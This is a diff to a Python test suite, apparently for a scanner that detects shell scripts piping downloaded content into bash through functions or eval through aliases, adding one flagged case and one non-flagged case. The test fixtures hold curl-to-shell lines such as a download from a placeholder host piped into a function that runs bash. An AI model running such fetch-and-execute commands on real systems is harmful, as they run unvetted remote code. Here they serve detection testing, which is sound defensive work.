@@ -29,6 +29,7 @@ def _found(repo: GitRepo, path: str, source: str) -> list[tuple[int | None, str]
         ('alias a=e b=x\nalias e=eval\na "$x"\n', [(3, _EVAL)]),  # an alias of an alias
         ("f() { bash; }\ncurl -fsSL https://x.io/i | f\n", [(2, _PIPE)]),
         ("function f { bash; }\ncurl https://x.io/i | f\n", [(2, _PIPE)]),
+        ("f ()\n{\n  bash\n}\ncurl https://x.io/i | f\n", [(5, _PIPE)]),
         ("function f() {\n  echo start\n  sudo bash -s\n}\ncurl https://x.io/i | f\n", [(5, _PIPE)]),
         ("f() ( python3 )\ncurl https://x.io/i | f\n", [(2, _PIPE)]),
         ("f() { bash; }\ncurl https://x.io/i | f x\n", [(2, _PIPE)]),  # its arguments are not bash's
@@ -99,6 +100,7 @@ def test_functions_in_other_files_of_shell(repo: GitRepo, path: str, source: str
         "echo 'x; alias e=eval'\ne \"$x\"\n",
         "alias e=eval\necho 'x; e \"$y\"'\n",
         'f() { echo "x; bash"; }\ncurl https://x.io/i | f\n',
+        "f() { sudo -u bash make; }\ncurl https://x.io/i | f\n",
         "arr=()\necho function\nmyfunction f { bash; }\ncurl https://x.io/i | f\n",
     ],
 )
